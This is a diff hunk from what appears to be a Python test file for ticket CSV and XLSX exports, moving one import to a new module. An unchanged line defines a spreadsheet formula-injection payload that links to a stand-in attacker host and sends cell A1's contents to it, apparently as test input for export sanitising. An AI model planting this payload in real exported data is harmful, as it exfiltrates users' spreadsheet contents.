@@ -13,9 +13,9 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from tests.conftest import logged_in
 from tests.factories import dashboard_cases
+from tickets.context import Context
 from tickets.exports import csv_bytes, xlsx_bytes
 from tickets.models import OrderLine
-from tickets.service import Context
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
